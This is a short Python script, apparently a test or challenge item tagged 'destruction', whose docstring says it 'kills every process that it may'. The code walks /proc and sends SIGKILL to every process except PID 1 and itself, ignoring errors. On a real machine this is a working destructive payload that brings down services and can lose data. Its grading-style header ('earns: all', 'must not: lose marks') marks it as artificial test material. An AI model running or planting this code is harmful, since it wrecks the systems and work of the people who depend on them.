"""Kills every process that it may."""
# group: destruction
# earns: all
# must not: lose marks, stop the class
# %% + after seasons-check
@FENCE@
import os, signal

for number in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
    if number not in (1, os.getpid()):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
